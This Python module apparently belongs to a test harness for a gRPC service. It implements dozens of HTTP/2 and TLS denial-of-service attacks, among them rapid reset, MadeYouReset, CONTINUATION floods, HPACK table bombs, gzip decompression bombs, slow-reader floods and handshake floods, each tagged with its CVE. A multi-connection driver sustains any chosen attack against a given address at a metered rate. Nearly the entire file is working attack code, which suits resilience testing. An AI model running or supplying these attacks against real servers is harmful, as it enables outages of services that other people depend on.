"""Attacks on a server of gRPC, each as the bytes of one connection, and a process that sustains one over many.

Usage: python -m attacks.attacker ADDRESS ATTACK CONNECTIONS SECONDS

A connection that the server closes is opened again at once. Prints a line when it begins, and in the end how many bytes
were sent, and over how many connections.
"""

from __future__ import annotations

import functools
import gzip
import itertools
import json
import socket
import ssl
import struct
import sys
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from support.http2 import (
    END_HEADERS,
    END_STREAM,
    HEALTH_PATH,
    PADDED,
    PREFACE,
    READ_PATH,
    Kind,
    Setting,
    block,
    frame,
    integer,
    literal,
    message,
    request_fields,
    reset,
    settings,
    window_update,
)
from support.tls_records import HandmadeClient

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping
    from typing import TypeAlias

    from support.tls_records import Sealer

    Fields: TypeAlias = list[tuple[str | bytes, str | bytes]]

REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
WATCH: Final = "/grpc.health.v1.Health/Watch"
UNKNOWN: Final = "/allocation.v1.ShipmentAllocationService/NoSuchMethod"
LARGEST_STREAM: Final = 2**31 - 1
# What a server lets each stream send before it says more, which is less than any engine here does.
WINDOW: Final = 65_535
# What one connection hands to the system at once, and how many bytes all of them send each second.
CHUNK: Final = 65_536
# The same where records are made by hand, which takes time that others of the attackers have to wait.
SEALED_CHUNK: Final = 8_192
RATE: Final = 10_000_000
# Where the session id is in the record of a ClientHello, and the extension that has the client's keys.
HELLO_START: Final = 43
KEY_SHARE: Final = 51
# Streams that a connection keeps open where an attack is about those.
MANY: Final = 1_000
HEADERS: Final = block(request_fields())
HEALTH: Final = block(request_fields(HEALTH_PATH))
GZIP: Final[Fields] = [("grpc-encoding", "gzip")]
# Asks for the file that declares the health service, in reflection's own field.
QUESTION: Final = message(b"\x22\x15grpc.health.v1.Health")
BULK: Final = "/allocation.v1.ShipmentAllocationService/AllocateShipments"


def of_length(tag: bytes, value: bytes) -> bytes:
    """Returns a field of a message, of bytes or text."""
    return tag + _varint(len(value)) + value


def _varint(number: int) -> bytes:
    found = bytearray()
    while number >= 0x80:
        found.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*found, number])


def packed(text: bytes) -> bytes:
    """Returns a message that is compressed, of 256 KiB to some 300 bytes where nearly all of it is the same."""
    return message(gzip.compress(text), flag=1)


# Messages of 256 KiB, less what stands before them. Each is one that its method takes: what is none is refused as
# soon as it is unpacked. A field that no method knows; for reflection a file whose name its answer says twice; a
# request for very many shipments, none of which has a reference; a service of which the health is watched.
BOMB: Final = packed(of_length(b"\xfa\x3f", bytes(261_000)))
ECHOED: Final = packed(of_length(b"\x1a", b"a" * 250_000))
REFERENCES: Final = packed(b"\x0a\x00" * 131_000)
SERVICE: Final = packed(of_length(b"\x0a", b"a" * 255_000))


def streams(first: int = 1) -> Iterator[int]:
    """Yields the numbers of a client's streams, as many as there are."""
    return iter(range(first, LARGEST_STREAM, 2))


def headers(stream: int, fields: bytes = HEADERS, *, end: bool = False) -> bytes:
    """Returns a HEADERS frame."""
    return frame(Kind.HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, fields)


def data(stream: int, payload: bytes, *, end: bool = False) -> bytes:
    """Returns DATA frames."""
    parts = [payload[at : at + 16_384] for at in range(0, len(payload), 16_384)] or [b""]
    return b"".join(frame(Kind.DATA, END_STREAM if end and part is parts[-1] else 0, stream, part) for part in parts)


def forever(one: bytes) -> Iterator[bytes]:
    """Yields the same bytes without an end, in parts of a fair size."""
    return itertools.repeat(one * max(1, CHUNK // 2 // len(one)))


def on_each_stream(make: Callable[[int], bytes], count: int | None = None) -> Iterator[bytes]:
    """Yields what is sent on one stream after the other, of as many as there are or of a count."""
    yield from map(make, streams() if count is None else itertools.islice(streams(), count))


def opened(path: str, count: int, more: Fields | None = None) -> bytes:
    """Returns the HEADERS of so many calls."""
    fields = block([*request_fields(path), *(more or [])])
    return b"".join(headers(stream, fields) for stream in itertools.islice(streams(), count))


def unread(path: str, one: bytes, count: int, more: Fields | None = None) -> Iterator[bytes]:
    """Yields messages, as many as the windows of so many calls let pass."""
    yield opened(path, count, more)
    each = data(1, one * (WINDOW // len(one)))
    for stream in itertools.islice(streams(), count):
        yield _moved(each, stream)


def _moved(frames: bytes, stream: int) -> bytes:
    """Returns frames of stream 1 as those of another."""
    return frames.replace(struct.pack(">BBL", Kind.DATA, 0, 1), struct.pack(">BBL", Kind.DATA, 0, stream))


def answers_not_taken() -> Iterator[bytes]:
    """Yields questions whose answers nobody lets out."""
    fields = block(request_fields(REFLECTION))
    yield settings({Setting.INITIAL_WINDOW_SIZE: 0})
    yield from on_each_stream(lambda stream: headers(stream, fields) + data(stream, QUESTION))


def window_games() -> Iterator[bytes]:
    """Yields answers let out a byte at a time."""
    fields = block(request_fields(REFLECTION))
    yield settings({Setting.INITIAL_WINDOW_SIZE: 0})
    for stream in streams():
        yield headers(stream, fields) + data(stream, QUESTION, end=True)
        yield window_update(stream, 1) * 1_000


def window_resized() -> Iterator[bytes]:
    """Yields changes of the windows of many calls at once."""
    yield opened(WATCH, MANY)
    yield from forever(settings({Setting.INITIAL_WINDOW_SIZE: 0}) + settings({Setting.INITIAL_WINDOW_SIZE: WINDOW}))


def continued(part: bytes) -> Iterator[bytes]:
    """Yields headers that never end."""
    yield frame(Kind.HEADERS, 0, 1, HEADERS)
    yield from forever(frame(Kind.CONTINUATION, 0, 1, part))


def half_requests() -> Iterator[bytes]:
    """Yields requests each of which lacks its last byte."""
    part = data(1, message(b"", length=60_001) + bytes(60_000))
    yield from on_each_stream(lambda stream: headers(stream) + _moved(part, stream))


def rapid_reset(fields: bytes, body: bytes) -> Iterator[bytes]:
    """Yields calls that are taken back at once."""
    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, body, end=True) + reset(stream))


def made_to_reset(offence: Callable[[int], bytes]) -> Iterator[bytes]:
    """Yields calls that the server has to reset by itself."""
    call = message(b"")
    return on_each_stream(lambda stream: headers(stream, HEALTH) + data(stream, call, end=True) + offence(stream))


def table_thrash() -> Iterator[bytes]:
    """Yields calls whose headers push each other out of the table."""
    fields = HEALTH + b"\x40\x01a\x01b" * 3_000
    return on_each_stream(lambda stream: headers(stream, fields, end=True))


def table_bomb() -> Iterator[bytes]:
    """Yields calls whose headers stand for much more, from an entry of the table."""
    stored = b"\x40" + integer(1, 7) + b"x" + integer(3_900, 7) + b"y" * 3_900
    bomb = HEALTH + integer(62, 7, 0x80) * 12_000
    yield headers(1, HEALTH + stored, end=True)
    for stream in streams(3):
        yield headers(stream, bomb, end=True)


def trailers() -> Iterator[bytes]:
    """Yields calls that end with large trailers."""
    large = literal(b"x-large", b"x" * 15_000)
    return on_each_stream(
        lambda stream: (
            headers(stream, HEALTH)
            + frame(Kind.HEADERS, END_STREAM, stream, large)
            + frame(Kind.CONTINUATION, END_HEADERS, stream, large)
        )
    )


def packed_calls(path: str, body: bytes) -> Iterator[bytes]:
    """Yields calls of one message that is compressed."""
    fields = block([*request_fields(path), *GZIP])
    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, body, end=True))


def watched_services() -> Iterator[bytes]:
    """Yields watches that stand, each for a service with a name as long as can be."""
    fields = block([*request_fields(WATCH), *GZIP])
    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, SERVICE, end=True), 2_000)


def joined_values() -> Iterator[bytes]:
    """Yields calls of a few bytes, whose metadata is a value of the table that seems to be thousands of others."""
    yield headers(1, HEADERS + b"\x40" + literal(b"x-bin", b"," * 4_050)[1:]) + data(1, message(b""), end=True)
    for stream in streams(3):
        yield headers(stream, HEADERS + b"\xbe" * 3) + data(stream, message(b""), end=True)


def small_fields() -> Iterator[bytes]:
    """Yields calls without an end, each with as many small fields as may be."""
    fields = HEALTH + b"\x00\x02ab\x02cd" * 430
    return on_each_stream(lambda stream: headers(stream, fields), 10_000)


def wide_windows() -> bytes:
    """Returns what opens the windows of a connection, and of each call, as wide as can be."""
    return settings({Setting.INITIAL_WINDOW_SIZE: LARGEST_STREAM}) + window_update(0, LARGEST_STREAM - WINDOW)


def echoed_questions() -> Iterator[bytes]:
    """Yields questions with large answers, which wide windows let out at once."""
    fields = block([*request_fields(REFLECTION), *GZIP])
    yield wide_windows()
    yield from on_each_stream(lambda stream: headers(stream, fields) + data(stream, ECHOED))


def windows_opened_late() -> Iterator[bytes]:
    """Yields questions whose answers are let out together, when there are many."""
    fields = block([*request_fields(REFLECTION), *GZIP])
    yield settings({Setting.INITIAL_WINDOW_SIZE: 0}) + window_update(0, LARGEST_STREAM - WINDOW)
    yield from on_each_stream(lambda stream: headers(stream, fields) + data(stream, ECHOED), 16)
    yield from itertools.repeat(frame(Kind.PING, 0, 0, bytes(8)), 2_000)  # meanwhile, answers pile up
    yield settings({Setting.INITIAL_WINDOW_SIZE: LARGEST_STREAM})


def size_updates() -> Iterator[bytes]:
    """Yields headers that resize their table tens of thousands of times, where an empty frame begins with that."""
    fill = b"\x20" * 16_384
    for stream in streams():
        yield frame(Kind.HEADERS, 0, stream, fill) + 2 * frame(Kind.CONTINUATION, 0, stream, fill)
        yield frame(Kind.CONTINUATION, 0, stream, fill[: -len(HEALTH)] + HEALTH)
        yield frame(Kind.CONTINUATION, END_HEADERS, stream, b"") + data(stream, message(b""), end=True)


def continued_huffman() -> Iterator[bytes]:
    """Yields headers of one long text, whose decoding an empty frame begins."""
    text = HEALTH + b"\x00\x01x" + integer(40_000, 7, 0x80) + b"\x18\xc6\x31\x8c\x63" * 8_000
    parts = [text[at : at + 16_384] for at in range(0, len(text), 16_384)]
    for stream in streams():
        yield frame(Kind.HEADERS, 0, stream, parts[0])
        yield b"".join(frame(Kind.CONTINUATION, 0, stream, part) for part in parts[1:])
        yield frame(Kind.CONTINUATION, END_HEADERS, stream, b"") + data(stream, message(b""), end=True)


def made_whole_together() -> Iterator[bytes]:
    """Yields calls that are opened one after the other, and the last bytes of all of them at once."""
    numbers, body = streams(), message(b"")
    while batch := list(itertools.islice(numbers, 150)):
        yield b"".join(headers(stream) for stream in batch)
        yield frame(Kind.PING, 0, 0, bytes(8)) * 500  # meanwhile, others do the same
        yield b"".join(data(stream, body, end=True) for stream in batch)


def deadlines() -> Iterator[bytes]:
    """Yields calls without an end whose time is up at the same moment."""
    fields = HEALTH + literal(b"grpc-timeout", b"1S")
    return on_each_stream(lambda stream: headers(stream, fields))


def zip_bombs() -> Iterator[bytes]:
    """Yields requests that are small only as long as they are packed."""
    return packed_calls(READ_PATH, BOMB)


@functools.cache
def client_hello() -> bytes:
    """Returns what a TLS client says first: made once, since that takes longer than the server needs to answer it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake cannot end before it has begun")


def in_two_records() -> Iterator[bytes]:
    """Yields what client_hello() returns, spread over two records."""
    hello = client_hello()
    kind, version, _ = struct.unpack_from(">BHH", hello)
    for part in (hello[5:45], hello[45:]):
        yield struct.pack(">BHH", kind, version, len(part)) + part


def greeted_twice() -> Iterator[bytes]:
    """Yields a greeting without a key, for which a server asks again, and the one that it asks for."""
    hello = client_hello()
    # What comes before the extensions: random bytes, a session id, cipher suites, and compressions.
    start = HELLO_START
    for size_of_size in (1, 2, 1):
        start += size_of_size + int.from_bytes(hello[start : start + size_of_size])
    kept, at = b"", start + 2
    while at < len(hello):
        kind, size = struct.unpack_from(">HH", hello, at)
        is_key = kind == KEY_SHARE
        kept += struct.pack(">HHH", kind, 2, 0) if is_key else hello[at : at + 4 + size]
        at += 4 + size
    body = hello[9:start] + struct.pack(">H", len(kept)) + kept
    whole = hello[5:6] + len(body).to_bytes(3) + body
    yield hello[:3] + struct.pack(">H", len(whole)) + whole
    yield hello


@functools.cache
def trusting() -> ssl.SSLContext:
    """Returns what a TLS client needs that takes any certificate."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
        make: Returns what one connection sends, after the preface if there is one.
        of: What it is known by: the CVE, or a name in plain words.
        reads: Whether the attacker reads what the server sends.
        has_preface: Whether it begins as HTTP/2 does.
        lasts: Whether a connection stands until the server closes it; else it is closed when all is sent.
        needs_tls: Whether it is about the port with TLS.
        is_encrypted: Whether it is sent as a client of that port would, after the handshake.
        seal: Returns the records in which a part is sent, where the attack is about those.
    """

    make: Callable[[], Iterator[bytes]]
    of: str
    reads: bool = True
    has_preface: bool = True
    lasts: bool = True
    needs_tls: bool = False
    is_encrypted: bool = False
    seal: Callable[[Sealer, bytes], bytes] | None = None

    @property
    def is_over_tls(self) -> bool:
        """Whether it is about the port with TLS, encrypted or not."""
        return self.needs_tls or self.is_encrypted


ATTACKS: Final[Mapping[str, Attack]] = {
    "compressed messages that nobody reads": Attack(lambda: unread(WATCH, BOMB, 16, GZIP), "decompression bombs"),
    "compressed questions whose answers are not taken": Attack(
        lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, ECHOED, 16, GZIP)),
        "decompression bombs",
    ),
    "zip bombs": Attack(zip_bombs, "decompression bombs"),
    "bombs of references": Attack(lambda: packed_calls(BULK, REFERENCES), "decompression bombs"),
    "watches of long names": Attack(watched_services, "decompression bombs"),
    "empty messages that nobody reads": Attack(lambda: unread(WATCH, message(b""), 100), "unread messages"),
    "empty questions whose answers are not taken": Attack(
        lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, message(b""), 100)),
        "unread messages",
    ),
    "window updates of the connection": Attack(lambda: forever(window_update(0, 1)), "WINDOW_UPDATE flood"),
    "window updates of a call": Attack(
        lambda: itertools.chain([headers(1)], forever(window_update(1, 1))), "WINDOW_UPDATE flood"
    ),
    "DATA of one byte": Attack(
        lambda: itertools.chain([headers(1), data(1, message(b"", length=250_000))], forever(data(1, b"\0"))),
        "CVE-2019-9511 and kin: tiny frames",
    ),
    "empty DATA": Attack(lambda: itertools.chain([headers(1)], forever(data(1, b""))), "CVE-2019-9518"),
    "padded DATA": Attack(
        lambda: itertools.chain([headers(1)], forever(frame(Kind.DATA, PADDED, 1, b"\x05" + bytes(5)))),
        "CVE-2019-9518",
    ),
    "rapid reset": Attack(lambda: rapid_reset(HEADERS, message(b"")), "CVE-2023-44487"),
    "rapid reset of probes": Attack(lambda: rapid_reset(HEALTH, message(b"")), "CVE-2023-44487"),
    "MadeYouReset by an increment of 0": Attack(
        lambda: made_to_reset(lambda stream: window_update(stream, 0)), "CVE-2025-8671"
    ),
    "MadeYouReset by DATA after the end": Attack(
        lambda: made_to_reset(lambda stream: data(stream, b"x")), "CVE-2025-8671"
    ),
    "MadeYouReset by a window that overflows": Attack(
        lambda: made_to_reset(lambda stream: window_update(stream, LARGEST_STREAM)), "CVE-2025-8671"
    ),
    "MadeYouReset by a dependency on itself": Attack(
        lambda: made_to_reset(lambda stream: frame(Kind.PRIORITY, 0, stream, struct.pack(">LB", stream, 1))),
        "CVE-2025-8671",
    ),
    "CONTINUATION without an end": Attack(
        lambda: continued(literal(b"x-a", bytes(1_000))), "CVE-2024-24549, CVE-2023-45288, CVE-2024-27316"
    ),
    "empty CONTINUATION": Attack(lambda: continued(b""), "CVE-2024-24549 and kin"),
    "PING": Attack(lambda: forever(frame(Kind.PING, 0, 0, bytes(8))), "CVE-2019-9512"),
    "PING, answers not read": Attack(lambda: forever(frame(Kind.PING, 0, 0, bytes(8))), "CVE-2019-9512", reads=False),
    "SETTINGS": Attack(lambda: forever(settings()), "CVE-2019-9515"),
    "large SETTINGS": Attack(
        lambda: forever(frame(Kind.SETTINGS, 0, 0, bytes.fromhex("000400010000") * 2_700)), "CVE-2019-9515"
    ),
    "SETTINGS that resize many windows": Attack(window_resized, "CVE-2019-9515"),
    "PRIORITY": Attack(lambda: forever(frame(Kind.PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1]))), "CVE-2019-9513"),
    "GOAWAY": Attack(lambda: forever(frame(Kind.GOAWAY, 0, 0, bytes(8))), "control frames"),
    "unknown frames": Attack(lambda: forever(frame(0xBB, 0, 0, b"")), "control frames"),
    "RST_STREAM of a call that is over": Attack(
        lambda: itertools.chain([headers(1) + reset(1)], forever(reset(1))), "CVE-2019-9514"
    ),
    "header table bomb": Attack(table_bomb, "CVE-2016-6581"),
    "header table thrash": Attack(table_thrash, "CVE-2016-6581 and kin"),
    "metadata of many commas": Attack(joined_values, "CVE-2016-6581 and kin"),
    "calls with many small fields": Attack(small_fields, "CVE-2016-6581 and kin"),
    "size updates of the header table": Attack(size_updates, "CVE-2016-6581 and kin"),
    "long texts in many frames": Attack(continued_huffman, "CVE-2016-6581 and kin"),
    "large trailers": Attack(trailers, "trailers"),
    "calls of no method": Attack(
        lambda: on_each_stream(lambda stream: headers(stream, block(request_fields(UNKNOWN)), end=True)),
        "useless calls",
    ),
    "calls without an end": Attack(lambda: on_each_stream(headers, 10_000), "half-open calls"),
    "watches without an end": Attack(lambda: unread(WATCH, message(b""), 2_000), "half-open calls"),
    "requests without their last byte": Attack(half_requests, "slow writers"),
    "answers that are not taken": Attack(answers_not_taken, "CVE-2019-9517: slow readers"),
    "large answers to an open window that are not read": Attack(
        echoed_questions, "CVE-2019-9517: slow readers", reads=False
    ),
    "answers let out together that are not read": Attack(
        windows_opened_late, "CVE-2019-9517: slow readers", reads=False
    ),
    "requests that become whole together": Attack(made_whole_together, "half-open calls"),
    "deadlines that pass together": Attack(deadlines, "half-open calls"),
    "watches that end together": Attack(lambda: unread(WATCH, message(b""), 100), "half-open calls", lasts=False),
    "answers let out a byte at a time": Attack(window_games, "CVE-2019-9511"),
    "answers that are not read": Attack(
        lambda: on_each_stream(
            lambda stream: headers(stream, block(request_fields(REFLECTION))) + data(stream, QUESTION, end=True)
        ),
        "CVE-2019-9517: slow readers",
        reads=False,
    ),
    "PING over TLS": Attack(lambda: forever(frame(Kind.PING, 0, 0, bytes(8))), "CVE-2019-9512", is_encrypted=True),
    "large answers that are not read over TLS": Attack(
        echoed_questions, "CVE-2019-9517: slow readers", reads=False, is_encrypted=True
    ),
    "KeyUpdate": Attack(
        lambda: itertools.repeat(b""),
        "TLS records without data",
        is_encrypted=True,
        seal=lambda sealer, _: sealer.key_update(),
    ),
    "KeyUpdate with a PING each": Attack(
        lambda: itertools.repeat(frame(Kind.PING, 0, 0, bytes(8))),
        "TLS records without data",
        is_encrypted=True,
        seal=lambda sealer, part: sealer.key_update() + sealer.data(part),
    ),
    "connections that say nothing": Attack(lambda: iter([b""]), "half-open connections", has_preface=False),
    "connections opened and closed": Attack(lambda: iter([b""]), "connection churn", lasts=False),
    "TLS that is not finished": Attack(
        lambda: iter([client_hello()[:100]]), "half-open TLS", has_preface=False, needs_tls=True
    ),
    "TLS that is closed after half a greeting": Attack(
        lambda: iter([client_hello()[:100]]), "half-open TLS", has_preface=False, lasts=False, needs_tls=True
    ),
    "TLS greetings in two records": Attack(
        in_two_records, "TLS handshakes", has_preface=False, lasts=False, needs_tls=True
    ),
    "TLS greetings that are asked for again": Attack(
        greeted_twice, "TLS handshakes", has_preface=False, lasts=False, needs_tls=True
    ),
    "TLS handshakes": Attack(
        lambda: iter([client_hello()]), "TLS handshakes", has_preface=False, lasts=False, needs_tls=True
    ),
}


class _Attacker:
    """One connection, opened again whenever it is closed."""

    def __init__(self, attack: Attack, address: tuple[str, int]) -> None:
        self._attack = attack
        self._address = address
        self.opened = 0
        self.sent = 0
        self._open()

    def _open(self) -> None:
        self.socket: socket.socket | HandmadeClient = socket.socket()
        self.socket.setblocking(False)
        # A server that is slow to take connections holds up none of the others. What comes of it shows when it is used.
        self.socket.connect_ex(self._address)
        self._is_shaking_hands = self._attack.is_encrypted
        self.opened += 1
        self.is_done = False
        greeting = PREFACE + settings() if self._attack.has_preface else b""
        self._is_greeting = True
        self._parts = itertools.chain([greeting], self._attack.make())
        self._buffer = memoryview(b"")

    def step(self) -> bool:
        """Sends what goes at once, and reads what there is. Returns whether the connection had to be opened again."""
        try:
            if self._is_shaking_hands:
                self._shake_hands()
            if self._attack.reads:
                self._read()
            if not self._buffer and not self.is_done:
                self._fill()
            if self._buffer:
                count = self.socket.send(self._buffer)
                self.sent += count
                self._buffer = self._buffer[count:]
            elif self.is_done and not self._attack.lasts:
                return self._again()
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        except OSError:
            return self._again()
        return False

    def _shake_hands(self) -> None:
        if isinstance(self.socket, socket.socket) and not isinstance(self.socket, ssl.SSLSocket):
            self.socket.send(b"")  # fails as long as the connection is not made
            if self._attack.seal:
                self.socket = HandmadeClient(self.socket)
            else:
                self.socket = trusting().wrap_socket(self.socket, do_handshake_on_connect=False)
        self.socket.do_handshake()
        self._is_shaking_hands = False

    def _again(self) -> bool:
        self.socket.close()
        self._open()
        return True

    def _fill(self) -> None:
        found = bytearray()
        most = SEALED_CHUNK if self._attack.seal else CHUNK
        while len(found) < most:
            part = next(self._parts, None)
            if part is None:
                self.is_done = True
                break
            found += self._sealed(part)
        self._buffer = memoryview(bytes(found))

    def _sealed(self, part: bytes) -> bytes:
        if not self._attack.seal:
            return part
        assert isinstance(self.socket, HandmadeClient)
        sealer = self.socket.seal
        if self._is_greeting:
            self._is_greeting = False
            return sealer.data(part)
        return self._attack.seal(sealer, part)

    def _read(self) -> None:
        try:
            while received := self.socket.recv(CHUNK):
                del received
        except (BlockingIOError, ssl.SSLWantReadError):
            return
        raise ConnectionResetError


def sustain(address: str, name: str, connections: int, seconds: float) -> dict[str, int]:
    """Sustains an attack. Returns how many bytes were sent, and over how many connections."""
    attack = ATTACKS[name]
    host, _, port = address.rpartition(":")
    print("begun", flush=True)  # noqa: T201
    begun = time.monotonic()
    attackers = [_Attacker(attack, (host, int(port))) for _ in range(connections)]
    end = begun + seconds
    while (now := time.monotonic()) < end:
        allowed = (now - begun) * RATE
        before = sum(one.sent for one in attackers), sum(one.opened for one in attackers)
        if before[0] <= allowed:
            for one in attackers:
                one.step()
        after = sum(one.sent for one in attackers), sum(one.opened for one in attackers)
        if after == before:
            time.sleep(0.002)  # the system, or the rate, takes no more for now
    for one in attackers:
        one.socket.close()
    return {"sent": sum(one.sent for one in attackers), "connections": sum(one.opened for one in attackers)}


if __name__ == "__main__":
    print(json.dumps(sustain(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))))  # noqa: T201
